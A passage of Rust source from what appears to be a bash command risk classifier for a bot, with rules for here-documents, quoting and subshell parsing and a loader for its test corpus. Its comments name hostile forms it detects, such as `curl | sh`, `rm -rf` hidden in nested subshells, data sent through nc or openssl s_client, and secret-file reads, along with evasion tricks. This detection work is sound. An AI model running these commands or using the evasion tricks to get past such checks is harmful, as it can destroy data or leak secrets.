            let resolved = secret_paths::normalised(path);
            fd.is_none_or(|fd| fd == 0)
                && path.starts_with('/')
                && !path.contains(['$', '`', '*', '?', '[', '\\', '\'', '"', '~'])
                && !["/dev", "/proc", "/sys", "/run"]
                    .iter()
                    .any(|d| resolved == *d || resolved.starts_with(&format!("{d}/")))
        }
        _ => false,
    }
}

/// A redirection that sends output to `/dev/null`.
fn discards(redirect: &IoRedirect) -> bool {
    matches!(
        redirect,
        IoRedirect::File(
            _,
            IoFileRedirectKind::Write | IoFileRedirectKind::Append,
            IoFileRedirectTarget::Filename(w),
        ) if w.value == "/dev/null"
    )
}

/// The redirections that replace standard input.
fn inputs(redirects: &[IoRedirect]) -> Vec<&IoRedirect> {
    redirects
        .iter()
        .filter(|r| match r {
            IoRedirect::File(fd, kind, _) => {
                fd.is_none_or(|fd| fd == 0)
                    && matches!(
                        kind,
                        IoFileRedirectKind::Read
                            | IoFileRedirectKind::ReadAndWrite
                            | IoFileRedirectKind::DuplicateInput
                    )
            }
            IoRedirect::HereDocument(fd, _) | IoRedirect::HereString(fd, _) => {
                fd.is_none_or(|fd| fd == 0)
            }
            IoRedirect::OutputAndError(..) => false,
        })
        .collect()
}

/// The text of the one process substitution a compound command reads
/// as its standard input (`done < <(pct list)`), if that is its only
/// input redirection.
fn substituted_input(redirects: &[IoRedirect]) -> Option<String> {
    match inputs(redirects).as_slice() {
        [
            IoRedirect::File(
                _,
                IoFileRedirectKind::Read,
                IoFileRedirectTarget::ProcessSubstitution(ProcessSubstitutionKind::Read, sub),
            ),
        ] => Some(
            sub.list
                .to_string()
                .trim()
                .trim_end_matches(';')
                .trim_end()
                .to_string(),
        ),
        _ => None,
    }
}

/// What `openssl s_client` sends of its input: a payload that names loss
/// is one, as nc's (review 119).
fn s_client_sends(stdin: &Stdin<'_>) -> Verdict {
    match rules::sent_loss_word(stdin) {
        Some(word) => Verdict::destructive(format!(
            "`openssl s_client` sends `{word}` to the service it connects to"
        )),
        None => {
            Verdict::mutation("`openssl s_client` sends what it reads on its input to the server")
        }
    }
}

/// The words with each [`numbered_word`] written as its text; `None`
/// when there is none.
fn numbered_args(args: &[Arg]) -> Option<Vec<Arg>> {
    args.iter().any(|a| numbered_word(a).is_some()).then(|| {
        args.iter()
            .map(|a| numbered_word(a).map_or_else(|| a.clone(), Arg::literal_of))
            .collect()
    })
}

/// The text of a word only known at run time whose substitutions each
/// print a number, a number in each (`"$(wc -l < f)q"` is `0q`), when it
/// splits into no words and starts with no `-`.
fn numbered_word(arg: &Arg) -> Option<String> {
    if !arg.is_dynamic() || arg.splits() {
        return None;
    }
    sources::number_word(arg.raw())
}

/// The operands a program may write: a copy's last one (its target), or
/// every one of any other program (`sed -i … FILE`, `tee FILE`).
fn written_operands(argv: &[Arg]) -> impl Iterator<Item = &str> {
    let program = argv.first().and_then(Arg::literal).unwrap_or("");
    let operands: Vec<&str> = argv
        .iter()
        .skip(1)
        .filter_map(Arg::literal)
        .filter(|w| !w.starts_with('-'))
        .collect();
    let copies = matches!(
        program.rsplit('/').next().unwrap_or(program),
        "cp" | "mv" | "install" | "ln" | "rsync" | "scp"
    );
    let kept = if copies {
        operands.last().copied().into_iter().collect::<Vec<_>>()
    } else {
        operands
    };
    kept.into_iter()
}

/// The text a builtin may read: its redirections' (a here-string on any
/// descriptor) and its input's, given by an enclosing loop or group
/// (`while read x; …; done <<< TEXT`) or the commands piped into it.
fn given_text(redirects: &[&IoRedirect], stdin: &Stdin<'_>, outer: Option<&OuterInput>) -> String {
    let mut text: String = redirects.iter().map(|r| r.to_string()).collect();
    match (stdin, outer) {
        (Stdin::Text(given), _) => text.push_str(given),
        (Stdin::Inherited, Some(OuterInput::Text(given))) => text.push_str(given),
        (Stdin::Pipe(commands), _) => {
            for command in commands.iter() {
                text.push_str(&command.to_string());
            }
        }
        (Stdin::Inherited | Stdin::Unknown, _) => {}
    }
    text
}

/// Whether every process substitution among a compound command's
/// `redirects` ends on its own ([`jobs::ends_on_its_own`]): a loop,
/// group or `if` reading it may stop at any time (review 104).
fn substitutions_end(redirects: &[IoRedirect]) -> bool {
    redirects.iter().all(|r| match r {
        IoRedirect::File(_, _, IoFileRedirectTarget::ProcessSubstitution(_, sub)) => {
            jobs::ends_on_its_own(&sub.list)
        }
        _ => true,
    })
}

/// Whether a loop's `body` may set the variable `name`: a use of the name
/// that is not an expansion (`$id`, `${id}`; `read -r id`, `for id in`,
/// `id=` set it), or a builtin that assigns a name it is given, whose
/// word quoting can hide (`read -r i\d`, `printf -v "i"d`, `mapfile -t
/// 'id'`): any of those in the body is taken as setting it.
fn may_set(body: &str, name: &str) -> bool {
    let ident = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
    // (A mention inside single quotes is text: an awk or sed program, `jq
    // '.id'`; blind corpus 76. The builtins that would read it as an
    // assignment, `eval`, `trap`, `let`, are in ASSIGNING below.)
    let unquoted = without_single_quoted_text(body);
    let scan = unquoted.as_deref().unwrap_or(body);
    let named = scan.match_indices(name).any(|(at, _)| {
        let before = &scan[..at];
        let whole =
            !ident(before.chars().next_back()) && !ident(scan[at + name.len()..].chars().next());
        // (An option word is no assignment: `free -h` in a loop over `h`;
        // nor awk's `-v NAME=VALUE`: printf's `-v` is caught below.)
        let option = [" -", "'-", "\"-", "\t-", " -v ", " -v \"", " -v '"]
            .iter()
            .any(|p| before.ends_with(p));
        // A name glued to an option letter (`printf -vNAME`, `read -aNAME`,
        // however the command is spelled: `$'printf' -vc`) may be set.
        let after_ok = !ident(scan[at + name.len()..].chars().next());
        // (Only the letters that take a name: `printf -v`, `read -a`.)
        let glued = {
            let mut back = before.chars().rev();
            matches!(back.next(), Some('v' | 'a'))
                && back.next() == Some('-')
                && back
                    .next()
                    .is_none_or(|c| c.is_whitespace() || matches!(c, '\'' | '"'))
        };
        // (Nor a printf conversion, `%s` in a loop over `s`.)
        let conversion = before.ends_with('%');
        // An element assigned in an expansion when it is unset or empty
        // (`${hosts[2]:=x}`, `${a[i]=x}`; review 100).
        let after = &scan[at + name.len()..];
        let element_default = whole
            && before.ends_with("${")
            && after.strip_prefix('[').is_some_and(|subscript| {
                subscript
                    .split_once(']')
                    .is_some_and(|(_, rest)| rest.starts_with('=') || rest.starts_with(":="))
            });
        (whole
            && !before.ends_with('$')
            && !before.ends_with("${")
            && !option
            && !conversion
            && sets_there(before, after))
            || (after_ok && glued)
            || element_default
    });
    const ASSIGNING: &[&str] = &[
        "read",
        "mapfile",
        "readarray",
        "getopts",
        "declare",
        "typeset",
        "local",
        "export",
        "readonly",
        "eval",
        "let",
        "unset",
        "source",
        ".",
        "coproc",
        // (bash 5.3's `compgen -V NAME` stores its list in NAME.)
        "compgen",
        // A handler may set any variable (thirty-eighth review).
        "trap",
    ];
    let words = || {
        body.split(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '{' | '}')
        })
    };
    // (Quotes and backslashes removed: `\\printf`, `'read'`, `r\\ead`.)
    // (`$'…'` and `$"…"` quote too: `$'printf'`, `p$'rintf'`.)
    let bare = |w: &str| -> String {
        // (`$` dropped before a quote; most words hold neither.)
        let mut out = String::with_capacity(w.len());
        let mut chars = w.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '$' if matches!(chars.peek(), Some('\'' | '"')) => {}
                '"' | '\'' | '\\' => {}
                _ => out.push(c),
            }
        }
        out
    };
    // (`$'\x72ead'` spells `read` with escapes this reading does not
    // decode: any ANSI-C quote may name an assigning builtin; review 71.)
    // (Sourcing the distribution's identification sets its keys only:
    // `. /etc/os-release` in a loop over `h`; blind corpus 129.)
    let listed: Vec<&str> = words().filter(|w| !w.is_empty()).collect();
    let printed = echoed_words(body);
    let assigning = body.contains("$'")
        || listed.iter().enumerate().any(|(i, w)| {
            if printed.contains(&w.as_ptr()) {
                return false;
            }
            let w = bare(w);
            let identification = matches!(w.as_str(), "source" | ".")
                && listed
                    .get(i + 1)
                    .is_some_and(|f| words::identification_file(&bare(f)));
            ASSIGNING.contains(&w.as_str())
                && (!identification || words::IDENTIFICATION_KEYS.contains(&name))
        });
    // (`wait -p NAME`, bash 5.1, sets NAME to the job's id.)
    let wait_p = words().any(|w| bare(w) == "wait") && body.contains("-p");
    // `printf` sets a name only with `-v`, however quoted (`-"v"`).
    // (Not inside a plain word, `dmidecode -s bios-version`; but after an
    // expansion that may be empty, `"$x"-v`; blind corpus 211.)
    let option_v = |w: String| {
        w.match_indices("-v").any(|(at, _)| {
            let prefix = &w[..at];
            prefix.contains(['$', '`'])
                || !prefix
                    .chars()
                    .next_back()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    };
    let printf_v = words().any(|w| bare(w) == "printf") && words().any(|w| option_v(bare(w)));
    named || assigning || printf_v || wait_p
}

/// Where the words `echo` prints start in `body` (as pointers into it):
/// each word after `echo` up to the next `;`, `&`, `|`, `(`, `)`, `{`,
/// `}` or line's end, however quoted, when echo is a command's first
/// word (`[ -f x ] && echo "local"`: `local` is text, no builtin; blind
/// corpus 191). Quotes may hide a separator (`echo "a; read x"`): the
/// split is the raw text's, which only ever shortens what is printed.
fn echoed_words(body: &str) -> Vec<*const u8> {
    // (`{` and `}` are words of their own to bash, not separators inside
    // one: `LC_ALL=C}echo read f` runs `read`; review 126.)
    let separator = |c: char| matches!(c, ';' | '&' | '|' | '(' | ')' | '\n');
    let mut printed = Vec::new();
    for command in body.split(separator) {
        let mut tokens = command
            .split(|c: char| c.is_whitespace())
            .filter(|w| !w.is_empty())
            .skip_while(|w| matches!(*w, "then" | "do" | "else" | "{" | "}"));
        if tokens.next() == Some("echo") {
            printed.extend(tokens.map(str::as_ptr));
        }
    }
    printed
}

/// Whether a name mentioned between `before` and `after` is assigned
/// there: an operator that assigns after it (`x=`, `x+=`, `x[…]=`, `x++`,
/// arithmetic's `x *= 2`), `++`/`--` before it, a loop's name (`for x`,
/// `select x`), or a descriptor bash allocates (`{x}>`). A name only read
/// (`$((x * 2))`, `echo x`) is not (review 93); builtins that take a name
/// to set are found by name in [`may_set`].
fn sets_there(before: &str, after: &str) -> bool {
    let after = after.trim_start_matches([' ', '\t']);
    let before = before.trim_end_matches([' ', '\t']);
    let assigns = after.starts_with('=') && !after.starts_with("==")
        || [
            "+=", "-=", "*=", "/=", "%=", "<<=", ">>=", "&=", "^=", "|=", "++", "--", "[",
        ]
        .iter()
        .any(|op| after.starts_with(op));
    let loop_name = ["for", "select"].iter().any(|w| {
        before.strip_suffix(w).is_some_and(|b| {
            b.is_empty()
                || b.ends_with(|c: char| {
                    c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '{')
                })
        })
    });
    assigns
        || before.ends_with("++")
        || before.ends_with("--")
        || loop_name
        || (before.ends_with('{') && after.starts_with('}'))
}

/// `body` with the text of its single-quoted strings blanked (the same
/// length, quotes kept), as bash reads them: `None` where a quote may mean
/// more (ANSI-C `$'…'`, arithmetic that strips quotes, `((`, `$[`, `let`),
/// where this scan cannot follow them (a comment, a heredoc, backquotes),
/// or where one is left open.
pub(crate) fn without_single_quoted_text(body: &str) -> Option<String> {
    if ["$'", "((", "$[", "let", "<<", "`"]
        .iter()
        .any(|w| body.contains(w))
    {
        return None;
    }
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars();
    let mut double = false;
    while let Some(c) = chars.next() {
        out.push(c);
        match c {
            '\\' => out.push(chars.next()?),
            '"' => double = !double,
            '#' if !double => return None,
            // (Inside double quotes a `${…}` or `$(…)` may hold quotes of
            // its own.)
            '$' if double && matches!(chars.clone().next(), Some('{' | '(')) => return None,
            '\'' if !double => {
                loop {
                    match chars.next()? {
                        '\'' => break,
                        d => out.extend(std::iter::repeat_n(' ', d.len_utf8())),
                    }
                }
                out.push('\'');
            }
            _ => {}
        }
    }
    (!double).then_some(out)
}

/// Where a program named by its path is the system's own.
const SYSTEM_PROGRAM_DIRS: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/usr/local/sbin/",
];

/// Whether a command's program word is the system's own program of that
/// name: a bare name (looked up in `PATH`), or a path in one of the
/// system's folders (`/usr/bin/rm`, not `/tmp/rm` or `./rm`).
pub fn system_program(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or(word);
    !word.contains('/')
        || SYSTEM_PROGRAM_DIRS
            .iter()
            .any(|dir| word.strip_prefix(dir) == Some(name))
}

/// Whether a redirection closes standard output (`>&-`, `1<&-`) or
/// points it where every write fails (`> /dev/full`).
fn closes_output(redirect: &IoRedirect) -> bool {
    match redirect {
        IoRedirect::File(None | Some(1), _, IoFileRedirectTarget::Duplicate(w)) => {
            w.to_string().trim_matches(['"', '\'']) == "-"
        }
        IoRedirect::File(None | Some(1), _, IoFileRedirectTarget::Filename(w)) => {
            w.to_string() == "/dev/full"
        }
        _ => false,
    }
}

/// Whether a redirection may fail before the command runs: a file other
/// than /dev/null (missing, not allowed), a descriptor closed or copied
/// from one the command did not open (`2>&-`, `>&9`); not `2>&1`.
fn redirect_may_fail(redirect: &IoRedirect) -> bool {
    match redirect {
        IoRedirect::File(_, _, IoFileRedirectTarget::Filename(w)) => w.to_string() != "/dev/null",
        IoRedirect::File(_, _, IoFileRedirectTarget::Duplicate(w)) => {
            !matches!(w.to_string().trim_matches(['"', '\'']), "1" | "2")
        }
        _ => false,
    }
}

/// Whether a command's program word is a package's program outside
/// `PATH`, in a package's own program folder, written plainly:
/// `/usr/lib/postgresql/15/bin/pg_controldata`,
/// `/usr/lib/nagios/plugins/check_disk` (root's folders, as the system's
/// own; judged by its name). Not any folder under /usr/lib
/// (`/usr/lib/cgi-bin/ls`; review 54).
fn package_program(word: &str) -> bool {
    let plain = |part: &str| {
        !matches!(part, "" | "." | "..")
            && part
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+'))
    };
    match word.split('/').collect::<Vec<_>>().as_slice() {
        ["", "usr", "lib", "postgresql", version, "bin", name] => {
            !version.is_empty() && version.bytes().all(|b| b.is_ascii_digit()) && plain(name)
        }
        ["", "usr", "lib", "nagios", "plugins", name]
        | ["", "usr", "lib", "monitoring-plugins", name] => plain(name),
        _ => false,
    }
}

/// A script made at run time piped into a shell (`curl … | sh`): it can
/// run any command, and nobody can read it on the card. Destructive (issue
/// 17's rule for opaque work; the earlier Go version had made `curl | sh`
/// a plain change to spare installs a typed phrase).
fn piped_script(runner: &str) -> Verdict {
    Verdict::destructive(format!(
        "pipes a script produced at run time into `{runner}` (like curl | sh), which can run any command"
    ))
}

/// Whether what a secret read printed reaches a command through the
/// input its redirections give it, or through its words.
struct GivenSecrets {
    input: bool,
    words: bool,
}

/// What [`Walker::gather`] finds in a simple command.
struct Gathered<'s> {
    argv: Vec<Arg>,
    redirects: Vec<&'s IoRedirect>,
    /// Each assignment before the program: its name, its literal value,
    /// and its verdict as a statement.
    prefix_assignments: Vec<(String, Option<String>, Verdict)>,
    /// Variables the assignments set whole.
    sets: Vec<String>,
    /// Those set to what a secret read printed.
    secret_sets: Vec<String>,
    /// Those set to a private file's text.
    private_sets: Vec<String>,
    /// Process substitutions among the words: whether each is read.
    substitutions: Vec<bool>,
    /// How many of those end on their own ([`jobs::ends_on_its_own`]).
    finite: usize,
}

enum Item<'a> {
    Prefix(&'a CommandPrefixOrSuffixItem),
    Name(&'a ast::Word),
    Suffix(&'a CommandPrefixOrSuffixItem),
}

/// Whether a redirection gives standard input from a secret file.
fn secret_input(redirects: &[IoRedirect], folders: &crate::secret_paths::Folders) -> bool {
    redirects.iter().any(|r| match r {
        IoRedirect::File(
            None | Some(0),
            IoFileRedirectKind::Read | IoFileRedirectKind::ReadAndWrite,
            IoFileRedirectTarget::Filename(w),
        ) => crate::secret_paths::file_names_secret(&w.value, folders),
        _ => false,
    })
}

/// What a group reads, from its redirection or else its pipe: what a
/// shell inside it reads (`{ bash; } < FILE`; review 91).
fn group_input<'a>(redirects: Option<&'a ast::RedirectList>, stdin: Stdin<'a>) -> Stdin<'a> {
    redirects
        .and_then(|r| {
            let read: Vec<&IoRedirect> = r.0.iter().collect();
            redirect_stdin(&read)
        })
        .unwrap_or(stdin)
}

/// A heredoc, here-string or `< file` replaces the pipeline as stdin.
fn redirect_stdin<'a>(redirects: &[&'a IoRedirect]) -> Option<Stdin<'a>> {
    redirects.iter().rev().find_map(|r| match r {
        IoRedirect::HereDocument(None | Some(0), doc) => {
            let text = &doc.doc.value;
            if !doc.requires_expansion {
                return Some(Stdin::Text(Cow::Borrowed(text.as_str())));
            }
            // An unquoted delimiter: bash removes `\` before `\`, `$`, `` ` ``
            // and a newline first (`x\\\;rm` is `x\;rm` to the reader).
            let text = heredoc_text(text);
            Some(if text.contains('$') || text.contains('`') {
                Stdin::Unknown
            } else {
                Stdin::Text(Cow::Owned(text))
            })
        }
        IoRedirect::HereString(None | Some(0), w) => {
            let arg = words::analyse(&w.value).arg;
            Some(if arg.kind == words::ArgKind::Literal {
                Stdin::Text(Cow::Owned(arg.text))
            } else {
                Stdin::Unknown
            })
        }
        IoRedirect::File(
            None | Some(0),
            IoFileRedirectKind::Read,
            IoFileRedirectTarget::Filename(w),
        ) if w.value == "/dev/null" => Some(Stdin::Text(Cow::Borrowed(""))),
        IoRedirect::File(
            None | Some(0),
            IoFileRedirectKind::Read
            | IoFileRedirectKind::ReadAndWrite
            | IoFileRedirectKind::DuplicateInput,
            _,
        ) => Some(Stdin::Unknown),
        _ => None,
    })
}

/// The text of a here-document with an unquoted delimiter after bash's
/// backslash processing: `\` and a newline join lines (`$\` + newline +
/// `(cmd)` is `$(cmd)`); `\\`, `\$` and `` \` `` lose their backslash.
fn heredoc_text(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('\n') => {
                    chars.next();
                }
                Some('\\' | '$' | '`') => {
                    out.extend(chars.next());
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn parse(text: &str) -> Result<ast::Program, String> {
    let text = &*nested_subshells(text);
    let options = brush_parser::ParserOptions::default();
    // The parser is third-party code fed untrusted text: a panic in it must
    // become a refusal, never a crash of the bot.
    let result = std::panic::catch_unwind(|| {
        let mut parser = brush_parser::Parser::new(BufReader::new(text.as_bytes()), &options);
        parser.parse_program()
    });
    match result {
        Ok(Ok(program)) => Ok(program),
        Ok(Err(e)) => Err(e.to_string()),
        Err(_) => Err("the parser failed".to_string()),
    }
}

/// `text` with bash's reading of `((` where no `))` closes it: a
/// subshell in a subshell (`((rm -rf /x) )` is `( (rm -rf /x) )`, and
/// `$((cmd) )` is `$( (cmd) )`: bash's `parse_dparen` looks for the `)`
/// matching the second `(` and, unless another `)` follows it at once,
/// reads the text again as nested subshells; review 85), and `( (`
/// (which brush reads as `((`), spelled with a no-op between the two
/// (`( :; (rm -rf /x) )`), as every parser reads it.
fn nested_subshells(text: &str) -> Cow<'_, str> {
    if text.matches('(').nth(1).is_none() {
        return Cow::Borrowed(text);
    }
    let bytes = text.as_bytes();
    let mut splits = Vec::new();
    let (mut single, mut double, mut ansi) = (false, false, false);
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        match c {
            // (`$'…'` takes `\'` as a quote inside it; review 87.)
            b'\\' if !single || ansi => i += 1,
            b'\'' if !double => {
                ansi = !single && i > 0 && bytes[i - 1] == b'$';
                single = !single;
            }
            b'"' if !single => double = !double,
            b'(' if !single => {
                let blanks = bytes[i + 1..]
                    .iter()
                    .take_while(|b| matches!(b, b' ' | b'\t' | b'\n'))
                    .count();
                let next = i + 1 + blanks;
                let before = i.checked_sub(1).map(|at| bytes[at]);
                let expansion = before == Some(b'$') && blanks == 0;
                // (Where a command starts: after a blank or a separator,
                // a case pattern's `)`, or a reserved word run into it,
                // `then((…) )`, `time((…) )`; review 87.)
                // (By characters: the one before may be wide; fuzzing.)
                let word_before = text[..i]
                    .rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                    .next()
                    .unwrap_or("");
                let keyword = matches!(
                    word_before,
                    "then" | "do" | "else" | "elif" | "if" | "while" | "until" | "time"
                );
                let command = !double
                    && (keyword
                        || before
                            .is_none_or(|b| b.is_ascii_whitespace() || b";&|({!)".contains(&b)));
                // (`( (` with blanks is always two subshells to bash;
                // an arithmetic `((…))` is skipped whole.)
                if bytes.get(next) == Some(&b'(') && (expansion || command) {
                    match (blanks == 0)
                        .then(|| arithmetic_closes(&bytes[next + 1..]))
                        .flatten()
                    {
                        Some(end) => i = next + end,
                        None => splits.push(i + 1),
                    }
                }
            }
            _ => {}
        }
        i += 1;
    }
    if splits.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 4 * splits.len());
    let mut from = 0;
    for at in splits {
        out.push_str(&text[from..at]);
        out.push_str(" :; ");
        from = at;
    }
    out.push_str(&text[from..]);
    Cow::Owned(out)
}

/// Where the text after `((` has the `)` that matches the second `(`
/// followed at once by another (bash's arithmetic command), quotes and
/// nested parentheses skipped; with none, bash reads no arithmetic.
fn arithmetic_closes(rest: &[u8]) -> Option<usize> {
    let (mut depth, mut single, mut double) = (0usize, false, false);
    let mut i = 0;
    while i < rest.len() {
        match rest[i] {
            b'\\' if !single => i += 1,
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'(' if !single && !double => depth += 1,
            b')' if !single && !double => {
                if depth == 0 {
                    return (rest.get(i + 1) == Some(&b')')).then_some(i + 1);
                }
                depth -= 1;
            }
            _ => {}
        }
        i += 1;
    }
    // (Unclosed: the parser refuses it whichever way it is read.)
    Some(rest.len())
}

/// The deepest bracket nesting in `text`, counted without regard to quotes
/// (an over-estimate is harmless: it only refuses).
/// How deep `for`, `while`, `until`, `if`, `case` and `select` nest in
/// `text`, counted without parsing: their words where a command starts
/// (after a separator, an opening bracket or `do`/`then`/`else`), outside
/// quotes, against `done`, `fi` and `esac`.
fn keyword_nesting(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    let (mut single, mut double, mut start) = (false, false, true);
    let mut bangs = 0usize;
    let mut word = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if single || double {
            match c {
                '\'' if single => single = false,
                '"' if double => double = false,
                '\\' if double => {
                    chars.next();
                }
                _ => {}
            }
            continue;
        }
        if c.is_ascii_alphabetic() {
            word.push(c);
            continue;
        }
        if !word.is_empty() {
            if start {
                match word.as_str() {
                    "for" | "while" | "until" | "if" | "case" | "select" => {
                        depth += 1;
                        max = max.max(depth);
                    }
                    "done" | "fi" | "esac" => depth = depth.saturating_sub(1),
                    _ => {}
                }
            }
            start = matches!(word.as_str(), "do" | "then" | "else" | "elif" | "time");
            word.clear();
        }
        match c {
            '\'' => single = true,
            '"' => double = true,
            '\\' => {
                chars.next();
            }
            ';' | '&' | '|' | '(' | ')' | '{' | '}' | '\n' => start = true,
            // `! ! ! …` negates again and again, each a level deeper.
            '!' => {
                start = true;
                bangs += 1;
                max = max.max(depth + bangs);
            }
            _ => {}
        }
        if !c.is_whitespace() && c != '!' {
            bangs = 0;
        }
    }
    max
}

fn nesting(text: &str) -> usize {
    let mut depth = 0usize;
    let mut max = 0usize;
    for c in text.chars() {
        match c {
            '(' | '{' | '[' | '`' => {
                depth += 1;
                max = max.max(depth);
            }
            ')' | '}' | ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

/// Here-documents bash and the parser may end at different lines: a
/// delimiter holding a backslash or quotes inside (`<<"E\OF"`, which bash
/// ends at the line `E\OF`), or a line that is the delimiter followed by
/// `)` (bash 5.2 ends a here-document in `$(…)` there). A line the
/// classifier reads as here-document text could run.
fn heredoc_ambiguity(text: &str) -> Option<&'static str> {
    // Each `<<` is checked against the lines after it: bounded.
    if text.matches("<<").count() > MAX_HEREDOCS {
        return Some("more here-documents than can be checked");
    }
    // bash joins lines at backslash-newline while it reads a body under an
    // unquoted delimiter and compares the joined line (`EO\<newline>F`
    // ends it): which line ends it is not what the text shows.
    if text.contains("<<") && text.contains("\\\n") {
        return Some(
            "a here-document with a line joined by a backslash, which may end it elsewhere",
        );
    }
    let mut rest = text;
    while let Some(at) = rest.find("<<") {
        let after = &rest[at + 2..];
        rest = after;
        if let Some(here_string) = after.strip_prefix('<') {
            rest = here_string;
            continue;
        }
        let word: String = after
            .trim_start_matches('-')
            .trim_start()
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, ';' | '|' | '&' | ')' | '<' | '>'))
            .collect();
        let inner = word.trim_matches(['"', '\'']);
        if inner.contains(['\\', '"', '\'', '$', '`']) {
            return Some(
                "a here-document's delimiter holds quotes or a backslash, which bash and the parser end differently",
            );
        }
        let delimiter = inner.to_string();
        if !delimiter.is_empty()
            && text.lines().any(|line| {
                line.trim_start_matches('\t')
                    .starts_with(&format!("{delimiter})"))
            })
        {
            return Some(
                "a here-document ends where `)` follows its delimiter, where bash and the parser differ",
            );
        }
    }
    None
}

/// The unquoted words of a simple command's text (as shown in a
/// segment), for naming its action. A word only known at run time is empty.
pub fn words_of(command: &str) -> Vec<String> {
    command
        .split_whitespace()
        .map(|w| {
            words::analyse(w)
                .arg
                .literal()
                .unwrap_or_default()
                .to_string()
        })
        .collect()
}

fn one_line(text: &str) -> String {
    // (One pass, stopping once past the limit: a hostile text is long.)
    let mut joined = String::with_capacity(text.len().min(256));
    let mut chars = 0usize;
    for word in text.split_whitespace() {
        if !joined.is_empty() {
            joined.push(' ');
            chars += 1;
        }
        joined.push_str(word);
        chars += word.chars().count();
        if chars > 200 {
            let cut: String = joined.chars().take(199).collect();
            return format!("{cut}…");
        }
    }
    joined
}

/// The corpus files (`crates/classify/corpus/`), one per family of tools.
pub const CORPUS_FILES: &[(&str, &str)] = &[
    ("general", include_str!("../corpus/general.txt")),
    ("coreutils", include_str!("../corpus/coreutils.txt")),
    ("system", include_str!("../corpus/system.txt")),
    ("network", include_str!("../corpus/network.txt")),
    ("tools", include_str!("../corpus/tools.txt")),
    ("run", include_str!("../corpus/run.txt")),
    ("v3", include_str!("../corpus/v3.txt")),
];

/// Known gaps (`corpus/gaps.txt`): (expected, current, command) for commands
/// the classifier judges differently from what they are; none judged
/// read-only when it is not.
pub fn gaps() -> Vec<(RiskClass, RiskClass, String)> {
    let class = |code: &str| match code {
        "R" => Some(RiskClass::ReadOnly),
        "C" => Some(RiskClass::ConfigMutation),
        "D" => Some(RiskClass::Destructive),
        _ => None,
    };
    include_str!("../corpus/gaps.txt")
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .filter_map(|line| {
            let mut parts = line.splitn(3, ' ');
            let expected = class(parts.next()?)?;
            let current = class(parts.next()?)?;
            Some((expected, current, parts.next()?.replace('⏎', "\n")))
        })
        .collect()
}

/// The classifier's corpus: commands with the class each must get, for
/// the tests, the fuzzers and the benchmark.
pub fn corpus() -> Vec<(RiskClass, String)> {
    corpus_of(
        &CORPUS_FILES
            .iter()
            .map(|(name, _)| *name)
            .collect::<Vec<_>>(),
    )
}

/// The corpus lines of the named files only.
pub fn corpus_of(files: &[&str]) -> Vec<(RiskClass, String)> {
    CORPUS_FILES
        .iter()
        .filter(|(name, _)| files.contains(name))
        .flat_map(|(_, text)| text.lines())
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .filter_map(|line| {
            let (code, command) = line.split_at_checked(2)?;
            let class = match code.trim() {
                "R" => RiskClass::ReadOnly,
                "C" => RiskClass::ConfigMutation,
                "D" => RiskClass::Destructive,
                _ => return None,
            };
            Some((class, command.replace('⏎', "\n")))
        })
        .collect()
}

/// Whether a command's literal words print nothing (a line break at
/// most): `:`, `true`, `echo`, `echo -n ""`, `printf ''`, `cat /dev/null`.
fn prints_nothing(lits: &[&str]) -> bool {
    match lits {
        [":" | "true" | "false"] => true,
        // (`echo "" > f`: a line break at most; blind corpus 40.)
        ["echo", rest @ ..] => rest
            .iter()
            .all(|a| a.is_empty() || matches!(*a, "-n" | "-e" | "-E" | "-ne" | "-en")),
        ["printf", format] => format.is_empty(),
        ["cat", "/dev/null"] => true,
        _ => false,
    }
}

/// Whether a command's input is empty: `< /dev/null`, an empty
/// here-string, or a pipe from one command that prints nothing (`: |`).
fn fed_nothing(stdin: &Stdin<'_>) -> bool {
    match stdin {
        Stdin::Text(text) => text.trim().is_empty(),
        Stdin::Pipe([feeder]) => {
            let text = feeder.to_string();
            let words: Vec<&str> = text
                .split_whitespace()
                .map(|w| if matches!(w, "''" | "\"\"") { "" } else { w })
                .collect();
            // (`command : | tee f`; review 102.)
            prints_nothing(&words[words::builtin_start(&words)..])
        }
        Stdin::Pipe(_) | Stdin::Inherited | Stdin::Unknown => false,
    }
}

/// The words that say what a command writes, past the prefixes that run
/// the same thing: `command : > f`, `builtin true > f`, `command > f`,
/// `exec > f`, `exec -c > f`, `exec {fd}> f` all empty f as `: > f` does
/// (reviews 102, 103, 104).
fn emptying_words(argv: &[Arg]) -> &[Arg] {
    let literal: Vec<&str> = argv.iter().map_while(Arg::literal).collect();
    match &argv[words::builtin_start(&literal)..] {
        // (`exec {fd}> f`: a descriptor bash picks, opened on f.)
        [exec, options @ ..]
            if exec.literal() == Some("exec")
                && options.iter().all(|o| {
                    o.literal().is_some_and(|o| {
                        o.starts_with('-') || (o.starts_with('{') && o.ends_with('}'))
                    })
                }) =>
        {
            &[]
        }
        rest => rest,
    }
}

/// Writes that lose a file's contents: a writing redirection from a
/// command that writes nothing (`: > f`, `> f`, `echo > f`, `echo "" > f`,
/// `cat /dev/null > f`, `cat < /dev/null > f`), or over a file the same
